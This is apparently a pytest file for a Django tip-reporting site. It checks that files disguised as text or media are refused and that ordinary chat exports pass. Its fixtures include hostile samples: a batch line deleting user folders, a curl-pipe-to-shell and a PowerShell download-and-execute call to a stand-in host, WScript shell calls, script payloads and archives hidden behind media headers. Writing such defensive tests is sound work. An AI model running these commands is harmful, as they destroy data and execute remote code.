"""Files must not attack the investigator: a file is accepted only if all of it is the type it claims to be.

A reviewer's questions: a batch file, an HTA, a web page or an SVG named ".txt";
a web page saved as UTF-16 (whose first bytes look like an MP3 frame); an archive
or a macro document behind an audio or video header, or appended to a real
recording: is each refused by name, with nothing stored? And does an ordinary
chat export, with its "<3" and its "<name@example.com>", still go through?
"""

from __future__ import annotations

import os
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accounts.models import StaffMember
from org.models import Facility
from tests.conftest import staff_client
from tests.factories import public_client, report_data
from tests.tipline import media_samples as samples
from tipline import storage
from tipline.models import Attachment, Tip
from tipline.uploads import EncryptingUploadHandler

pytestmark = pytest.mark.django_db

REFUSED = "is not a kind of file we accept."

DISGUISED = {
    "batch file": ("nota.txt", b"@echo off\r\ndel /q /s C:\\Users\\*\r\n"),
    "batch file after a remark": ("nota.txt", b"rem lista de visitas\r\n@ECHO OFF\r\nstart calc.exe\r\n"),
    "hta after a line of text": (
        "acta.txt",
        b"Acta de la reunion\n<HTA:APPLICATION ID=x>\n<script language=vbscript>x</script>",
    ),
    "html after a line of text": ("nota.txt", b"Hola, les escribo por lo del lunes\n<script>alert(1)</script>\n"),
    "svg after a line of text": ("dibujo.txt", "Plano del pabellón\n<svg onload=alert(1)>".encode()),
    "xml declaration late": ("datos.txt", b"datos:\n<?xml version='1.0'?><x/>"),
    "shell script": ("nota.txt", b"#!/bin/sh\ncurl http://x.example | sh\n"),
    "powershell": ("nota.txt", b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://x.example/a'))\n"),
    "jscript": ("nota.txt", b'var s = new ActiveXObject("Shell.Application");\n'),
    "vbscript": ("nota.txt", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
    "utf-16 web page": ("nota.txt", "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le")),
    "utf-16 text": ("nota.txt", "\ufeffReunión el lunes en el pabellón 3".encode("utf-16-le")),
    "zip behind an id3 header": ("audio.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + samples.zip_archive()),
    "docm behind an mp4 header": (
        "video.mp4",
        samples.box(b"ftyp", b"isom\x00\x00\x02\x00isom") + samples.zip_archive(),
    ),
    "zip appended to a real mp4": ("video.mp4", samples.iso_media() + samples.zip_archive()),
    "zip appended to a real mp3": ("audio.mp3", samples.mpeg_frames() + samples.zip_archive()),
    "zip appended to a real wav": ("audio.wav", samples.wav() + samples.zip_archive()),
    "zip appended to a real ogg": ("audio.ogg", samples.opus() + samples.zip_archive()),
    "zip behind an amr header": ("nota.amr", b"#!AMR\n" + samples.zip_archive()),
    "html behind a pdf header": ("carta.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>"),
    "webm": ("video.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + os.urandom(500)),
    "heif behind an mp4 brand": ("foto.mp4", samples.box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + os.urandom(200)),
}


@pytest.mark.parametrize(("name", "content"), list(DISGUISED.values()), ids=list(DISGUISED))
def test_a_disguised_file_is_refused_by_name_and_nothing_is_stored(
    cast: dict[str, StaffMember], facilities: dict[str, Facility], name: str, content: bytes
) -> None:
    upload = SimpleUploadedFile(name, content, content_type="text/plain")
    response = public_client("en").post("/report/", {**report_data(facilities["lurigancho"]), "attachments": [upload]})
    assert response.status_code == 400
    assert f"“{name}” {REFUSED}" in response.content.decode()
    assert Tip.objects.count() == 0
    assert storage.file_names() == []


CHAT_EXPORT = (
    "[30/11/26 10:42] Ana: te quiero <3\n"
    "[30/11/26 10:43] Luis: escríbeme a <luis@example.com> o al 999 888 777\n"
    "[30/11/26 10:44] Ana: el pago fue de 200 < 300 soles, y a > b\n"
    "[30/11/26 10:45] Luis: <Multimedia omitido>\n"
    "[30/11/26 10:46] Ana: echo de menos a mi hijo; el script de la novela es bueno\n"
    "[30/11/26 10:47] Luis: está en la <base de datos> y en <imagenes del patio>\n"
).encode()


def test_an_ordinary_chat_export_is_accepted_and_stored_as_sent(
    cast: dict[str, StaffMember], facilities: dict[str, Facility]
) -> None:
    upload = SimpleUploadedFile("chat.txt", CHAT_EXPORT, content_type="text/plain")
    response = Client().post("/report/", {**report_data(facilities["lurigancho"]), "attachments": [upload]})
    assert response.status_code == 200, response.content.decode()[:3000]
    tip, attachment = Tip.objects.get(), Attachment.objects.get()
    download = staff_client("lima_investigator").get(f"/staff/tips/{tip.public_id}/files/{attachment.public_id}/")
    assert b"".join(download.streaming_content) == CHAT_EXPORT


def run_handler(data: bytes, chunk: int) -> Any:
    handler = EncryptingUploadHandler()
    handler.new_file("attachments", "nota.txt", "text/plain", len(data))
    for start in range(0, len(data), chunk):
        handler.receive_data_chunk(data[start : start + chunk], start)
    return handler.file_complete(len(data))


@pytest.mark.parametrize("chunk", [1, 7, 4096])
def test_a_script_line_deep_in_a_long_note_is_found_whatever_the_chunking(chunk: int) -> None:
    note = b"una nota larga sobre el pabellon 3\n" * 300
    assert run_handler(note, chunk).problem is None
    refused = run_handler(note + b"<iframe src=x>\n" + note, chunk)
    assert refused.problem is not None
    assert not storage.exists(refused.storage_name)


def test_an_ogg_with_a_second_stream_is_refused(cast: dict[str, StaffMember], facilities: dict[str, Facility]) -> None:
    """mutagen empties the comments of one stream: a second one (chained, or a video's) would keep its own."""
    upload = SimpleUploadedFile("audio.ogg", samples.opus() + samples.opus(serial=8), content_type="audio/ogg")
    response = public_client("en").post("/report/", {**report_data(facilities["lurigancho"]), "attachments": [upload]})
    assert response.status_code == 400
    assert f"“audio.ogg” {REFUSED}" in response.content.decode()
    assert storage.file_names() == []
